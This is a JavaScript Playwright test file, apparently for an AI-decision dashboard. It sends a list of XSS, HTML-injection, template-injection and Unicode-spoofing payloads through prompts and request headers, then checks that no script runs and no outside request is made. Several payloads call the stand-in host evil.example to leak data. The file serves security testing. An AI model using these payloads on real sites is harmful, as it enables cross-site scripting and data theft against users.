// I-02: text that tries to become script, markup or a request, through every door there is: the
// prompt, the reply, the person, the model's name, a verifier's reasoning, headers. No script may
// run, no page may reach out, and no policy may have to step in.
//
//   CONCLAVE_URL, CONCLAVE_PASSWORD, CONCLAVE_KEY, CHROMIUM  as in dashboard.test.mjs
//   CONCLAVE_MODEL  a model that answers with what it is told, best under a hostile name
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { chromium } from "playwright-core";

const base = (process.env.CONCLAVE_URL ?? "http://127.0.0.1:8420").replace(/\/$/, "");
const model = process.env.CONCLAVE_MODEL ?? "builtin";
const ARGS = [
  "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
  "--disable-background-networking", "--disable-component-update", "--disable-sync",
];
const PAYLOADS = [
  "<script>window.owned=1</script>",
  "</title></style></textarea><script>window.owned=1</script>",
  "<img src=x onerror=window.owned=1>",
  "<img src=\"https://evil.example/p.png\">",
  "<svg onload=window.owned=1><animate onbegin=window.owned=1></svg>",
  "<svg><script href=\"data:,window.owned=1\"/></svg>",
  "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>",
  "<a href=\"javascript:window.owned=1\">x</a>",
  "\"><input autofocus onfocus=window.owned=1>",
  "'><details open ontoggle=window.owned=1>",
  "\" onmouseover=\"window.owned=1\" x=\"",
  "![x](https://evil.example/?q=secret) [y](javascript:window.owned=1)",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><button>Go</button></form>",
  "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} {% raw %} <%= 7*7 %>",
  "\u001b]0;owned\u0007\u001b[31mred\u001b[0m",
  "\u202egnp.exe\u2066\u2069 \u200b\u200d\ufeff \u061c",
  "line\u2028separator\u2029paragraph",
  "nul\u0000byte \ud800 lone",
  "&lt;script&gt;window.owned=1&lt;/script&gt; &#x3c;script&#x3e;",
  "\uff1cscript\uff1ewindow.owned=1\uff1c/script\uff1e",
  `${"A".repeat(200_000)}<script>window.owned=1</script>`,
];

let browser;
let context;
let decisions;
const trouble = [];

function watch(page) {
  page.setDefaultTimeout(30_000);
  page.on("dialog", (dialog) => { trouble.push("a dialog"); dialog.dismiss(); });
  page.on("pageerror", (error) => trouble.push(`script error: ${error.message}`));
  page.on("request", (request) => {
    if (!request.url().startsWith(`${base}/`)) trouble.push(`a request to ${request.url()}`);
  });
  return page;
}

// What fits into a name or a header, of a payload.
const named = (text) => [...text].filter((letter) => letter >= " " && letter !== "\u007f")
  .join("").replace(/[\ud800-\udfff\u0080-\u009f]/g, "").slice(0, 60) || "x";
const ascii = (text) => named(text).replace(/[^\x20-\x7e]/g, "?");

async function say(payload) {
  const answer = await fetch(`${base}/v1/chat/completions`, {
    method: "POST",
    headers: {
      authorization: `Bearer ${process.env.CONCLAVE_KEY}`,
      "content-type": "application/json",
      "user-agent": ascii(payload),
      "x-request-id": ascii(payload),
      "x-conclave-session-id": ascii(payload),
    },
    body: JSON.stringify({
      model,
      safety_identifier: named(payload),
      messages: [{ role: "user", content: payload.isWellFormed() ? payload : payload.toWellFormed() }],
    }),
  });
  await answer.text();
  const id = answer.headers.get("x-conclave-audit-id");
  assert.ok(id, `no decision for ${JSON.stringify(payload.slice(0, 80))} (${answer.status})`);
  return id;
}

before(async () => {
  decisions = [];
  for (const payload of PAYLOADS) decisions.push(await say(payload));
  const executablePath = process.env.CHROMIUM ?? "/usr/bin/chromium";
  browser = await chromium.launch({ executablePath, args: ARGS });
  context = await browser.newContext();
  await context.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      window.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  const page = watch(await context.newPage());
  await page.goto(`${base}/login`);
  await page.getByLabel("Name").fill("owner");
  await page.getByLabel("Password").fill(process.env.CONCLAVE_PASSWORD ?? "");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(`${base}/`);
  await page.close();
});

after(async () => { await browser?.close(); });

test("no script runs, nothing reaches out, nothing becomes markup", { timeout: 600_000 }, async () => {
  const page = watch(await context.newPage());
  const hostile = encodeURIComponent("<script>window.owned=1</script>");
  const addresses = [
    "/", "/decisions", "/reviews", "/docs", "/receipt",
    `/decisions?outcome=${hostile}`, `/decisions/${hostile}`, `/reviews/${hostile}`, `/${hostile}`,
    ...decisions.map((id) => `/decisions/${id}`),
  ];
  for (const address of addresses) {
    await page.goto(base + address, { waitUntil: "load" });
    const found = await page.evaluate(() => ({
      owned: window.owned,
      violations: window.violations ?? [],
      markup: [...document.querySelectorAll(
        "main :is(script, img, iframe, object, embed, link, meta, base, math, svg [onload], " +
        "[onerror], [onfocus], [ontoggle], [onmouseover], [style], [srcdoc]), " +
        "a[href^='javascript:'], a[href*='evil'], form[action*='evil'], main style")]
        .map((element) => element.outerHTML.slice(0, 200)),
    }));
    assert.equal(found.owned, undefined, `a script ran on ${address}`);
    assert.deepEqual(found.violations, [], address);
    assert.deepEqual(found.markup, [], address);
  }
  assert.deepEqual(trouble, []);
  await page.close();
});

test("what was said is still there to be read, as text", async () => {
  const page = watch(await context.newPage());
  for (const [at, shown] of [
    [0, "<script>window.owned=1</script>"],
    [11, "![x](https://evil.example/?q=secret)"],
    [18, "{{constructor.constructor('window.owned=1')()}}"],
    [20, "⟦U+202E⟧"],
  ]) {
    await page.goto(`${base}/decisions/${decisions[at]}`);
    const text = await page.locator("main").innerText();
    assert.ok(text.includes(shown), `${shown} is not shown`);
  }
  await page.close();
});
